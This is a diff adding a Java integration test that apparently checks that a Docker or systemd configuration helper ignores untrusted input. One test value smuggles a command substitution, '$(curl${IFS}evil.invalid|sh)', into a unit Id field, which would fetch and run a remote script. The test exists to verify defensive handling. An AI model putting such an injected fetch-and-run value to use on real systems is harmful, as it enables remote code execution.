@@ -62,6 +62,20 @@ final class JudgeIT {
   }
 
   @Test
+  void offersNothingThatTheMachineNamedAndWorksOutNoPowerOfWhatItSays() {
+    String unit = "Id=docker.$(curl${IFS}evil.invalid|sh)\nLoadState=masked";
+    assertEquals("", answer(Map.of("units", unit), Map.of()).get(0));
+    assertEquals(
+        "",
+        answer(
+                Map.of(
+                    "docker_settings",
+                    "{\"default-address-pools\": [{\"base\": \"10.0.0.0/8\", \"size\": 99999999999}]}"),
+                Map.of())
+            .get(0));
+  }
+
+  @Test
   void givesDockerWhatIpv6NeedsUnlessThatWouldStopOthers() {
     Map<String, Object> serving = Map.of("serves_ipv6", true);
     String running = "others 0.0.0.0:80->80/tcp";
